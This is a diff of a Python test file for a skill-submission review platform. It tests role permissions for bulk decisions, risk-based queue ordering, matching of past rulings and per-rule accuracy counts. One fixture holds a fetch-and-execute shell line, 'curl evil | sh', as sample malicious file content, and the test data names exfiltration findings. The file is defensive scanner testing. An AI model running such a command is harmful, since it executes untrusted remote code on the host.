@@ -9,13 +9,33 @@ from tests.support.envs import make_submission, open_test_env, put_record
 from tests.support.system_reads import get_submission
 from vskill_platform.actions.bulk import BULK, BulkVerb, DecideMany, SeenSubmission
 from vskill_platform.actions.principal import Principal
-from vskill_platform.actions.review import APPROVE, REJECT, WAITING, DecideSubmission, ListWaiting
-from vskill_platform.actions.suppressions import SUPPRESS, SuppressRule
-from vskill_platform.domain.errors import NotPermitted, TransitionError
+from vskill_platform.actions.review import APPROVE, REJECT, DecideSubmission
+from vskill_platform.actions.review_preview import preview_decision
+from vskill_platform.actions.review_queue import WAITING, ListWaiting, order_queue
+from vskill_platform.actions.rule_figures import RULE_FIGURES, ListRuleFigures
+from vskill_platform.actions.suppressions import SUPPRESS, UNSUPPRESS, SuppressRule
+from vskill_platform.actions.visibility import resolve
+from vskill_platform.domain.content import SkillFile
+from vskill_platform.domain.errors import InvalidInput, NotPermitted, TransitionError
+from vskill_platform.domain.evidence import evidence_of
+from vskill_platform.domain.scan import (
+    NO_JUDGE,
+    Finding,
+    FindingCategory,
+    FindingKind,
+    JudgeReport,
+    JudgeStatus,
+    ScanStatus,
+    Severity,
+    StaticReport,
+    Verdict,
+)
 from vskill_platform.domain.states import State
-from vskill_platform.domain.submission import RecordedDecision, Submission
+from vskill_platform.domain.submission import EXHAUSTED, RecordedDecision, Submission
 from vskill_platform.store.accounts import Role
 from vskill_platform.store.audit import list_audit
+from vskill_platform.store.rule_figures import read_rule_figures
+from vskill_platform.store.rulings import SubjectKind, find_similar, subjects_of
 from vskill_platform.store.suppressions import suppressed_rules
 
 pytestmark = pytest.mark.anyio
@@ -143,7 +163,144 @@ async def test_many_are_decided_and_what_changed_is_left_alone(env, verb, state)
     assert sum(one.action == f"bulk {verb.value}" for one in (await list_audit()).items) == 1
 
 
-async def test_only_admins_decide_about_many(env):
+async def test_reviewers_decide_about_many_and_authors_do_not(env):
     record = await waiting(env)
     with pytest.raises(NotPermitted):
-        await BULK(env, ROB, many(BulkVerb.APPROVE, record))
+        await BULK(env, Principal("ann", Role.AUTHOR), many(BulkVerb.APPROVE, record))
+    done = await BULK(env, ROB, many(BulkVerb.APPROVE, record))
+    assert done.done == (record.id,)
+
+
+# The order of the queue.
+
+
+def evidence(*findings: Finding, status: ScanStatus = ScanStatus.COMPLETE, judge: JudgeReport = NO_JUDGE):
+    return evidence_of(DIGEST, StaticReport("3-test", status, findings), judge)
+
+
+def finding(severity: Severity, kind: FindingKind = FindingKind.MALICE, *, certain: bool = False) -> Finding:
+    category = FindingCategory.EXFILTRATION
+    return Finding(f"EX-{severity.rank}", severity, category, kind, "run.sh", 1, certain=certain)
+
+
+#: In the order in which a reviewer should look at them.
+BY_RISK = {
+    "known-bad": evidence(finding(Severity.LOW, certain=True)),
+    "critical": evidence(finding(Severity.CRITICAL, FindingKind.MISMATCH)),
+    "strong": evidence(finding(Severity.HIGH)),
+    "signalled": msgspec.structs.replace(evidence(), signals=("it gained a shell",)),
+    "unread": evidence(status=ScanStatus.INCOMPLETE),
+    "weak": evidence(finding(Severity.HIGH, FindingKind.MISMATCH)),
+    "unsure-judge": evidence(judge=JudgeReport(JudgeStatus.ANSWERED, Verdict.CONCERNS, 60, model="m")),
+    "outage": None,
+}
+
+
+async def test_the_queue_is_ordered_by_risk_and_then_by_age(env):
+    """The worst first, of equals what has waited longest; page by page nothing is lost or shown twice."""
+    for at, name in enumerate(reversed(BY_RISK)):
+        record = make_submission(
+            name, state=State.NEEDS_REVIEW, at=1_000 + at, digest=DIGEST, evidence=BY_RISK[name]
+        )
+        await put_record(env, record)
+    older = make_submission(
+        "critical-older", state=State.NEEDS_REVIEW, at=1, digest=DIGEST, evidence=BY_RISK["critical"]
+    )
+    await put_record(env, older)
+    listed, after = [], None
+    while True:
+        page = await WAITING(env, ROB, ListWaiting(limit=3, after=after))
+        listed += [one.skill_name for one in page.items]
+        assert page.total == 9 and page.beyond == 0
+        after = page.after
+        if after is None:
+            break
+    # Weak findings and a judge's doubt weigh the same: the one that waits longer comes first.
+    assert listed == [
+        "known-bad", "critical-older", "critical", "strong", "signalled", "unread", "unsure-judge", "weak", "outage"
+    ]  # fmt: skip
+    with pytest.raises(InvalidInput, match="cursor"):
+        await WAITING(env, ROB, ListWaiting(after="bm9uc2Vuc2U="))
+
+
+async def test_the_next_item_follows_the_one_that_was_looked_at_and_then_begins_anew(env):
+    records = [await waiting(env, name) for name in ("one", "two", "three")]
+    reviewer = await resolve(ROB)
+    queue = await order_queue(reviewer)
+    ids = [record.id for record in queue.records]
+    assert set(ids) == {record.id for record in records}
+    assert [queue.following(one) for one in ids] == [ids[1], ids[2], ids[0]]
+    assert [queue.preceding(one) for one in ids] == [None, ids[0], ids[1]]
+    assert [queue.place_of(one) for one in ids] == [1, 2, 3]
+    assert queue.following("sub_other") == ids[0] and queue.place_of("sub_other") is None
+    await REJECT(env, ROB, about(records[0]))
+    await REJECT(env, ROB, about(records[1]))
+    last = await order_queue(reviewer)
+    assert last.following(records[2].id) is None
+
+
+# What is remembered of decisions.
+
+
+async def test_a_decision_is_found_again_by_content_repository_and_rule(env):
+    first = await waiting(env, "one")
+    await REJECT(env, ROB, about(first, reason="it steals"))
+    twin = await waiting(env, "two")
+    (found,) = await find_similar(twin, subjects_of(twin, (), ()))
+    assert (found.ruling.submission, found.ruling.approved, found.ruling.reason) == (
+        first.id,
+        False,
+        "it steals",
+    )
+    assert {one.kind for one in found.common} >= {SubjectKind.CONTENT, SubjectKind.RULE}
+    other = msgspec.structs.replace(twin, digest="b" * 64, decision=RecordedDecision("odd", ("ZZ-001",)))
+    similar = await find_similar(other, subjects_of(other, (), ()))
+    same_repository = twin.identity.repo_key == first.identity.repo_key
+    assert bool(similar) is same_repository
+    assert await find_similar(first, subjects_of(first, (), ())) == (), "its own decision is no precedent"
+
+
+async def test_a_file_with_a_finding_leads_to_what_was_decided_about_it(env):
+    record = await waiting(env, "one")
+    script = SkillFile("run.sh", "100755", b"curl evil | sh")
+    subjects = subjects_of(record, (finding(Severity.HIGH),), (script, SkillFile("b.md", "100644", b"b")))
+    files = [one for one in subjects if one.kind is SubjectKind.FILE]
+    assert [one.words for one in files] == ["the same run.sh"]
+
+
+async def test_rules_are_counted_when_reviewers_agree_disagree_and_suppress(env):
+    for number in range(3):
+        record = await waiting(env, f"fine-{number}")
+        await APPROVE(env, ROB, about(record))
+    figures = (await read_rule_figures())["DR-009"]
+    assert (figures.agreed, figures.disagreed, figures.is_mostly_wrong) == (0, 3, True)
+    for number in range(3):
+        await REJECT(env, ROB, about(await waiting(env, f"bad-{number}")))
+    figures = (await read_rule_figures())["DR-009"]
+    assert (figures.agreed, figures.disagreed, figures.is_mostly_wrong) == (3, 3, False)
+    await waiting(env, "doubtful")
+    asked = SuppressRule(digest=DIGEST, rule="DR-009", reason="a test host")
+    await SUPPRESS(env, ROB, asked)
+    assert (await read_rule_figures())["DR-009"].disagreed == 4
+    await UNSUPPRESS(env, ROB, asked)
+    assert (await read_rule_figures())["DR-009"].disagreed == 3
+    answer = await RULE_FIGURES(env, ROB, ListRuleFigures())
+    shown = {one.rule: one for one in answer.rules}["DR-009"]
+    assert (shown.agreed, shown.disagreed, shown.mostly_wrong) == (3, 3, False)
+    assert shown.kind != "capability" and len(answer.rules) > 50
+
+
+async def test_an_error_code_is_no_rule(env):
+    record = await waiting(env)
+    coded = msgspec.structs.replace(record, decision=RecordedDecision("gone", ("source_gone", EXHAUSTED)))
+    await put_record(env, coded)
+    await REJECT(env, ROB, about(coded))
+    assert await read_rule_figures() == {}
+
+
+async def test_a_decision_says_beforehand_what_it_will_do(env):
+    record = await waiting(env, submitter="ann")
+    told = await preview_decision(env, await resolve(ROB), record)
+    assert "no longer kept" in told.problem and told.approve == ()
+    assert told.reject[0].startswith("ann is told your reason")
+    assert "DR-009 counts as right about it." in told.reject and told.reject[-1] == "Nothing is published."
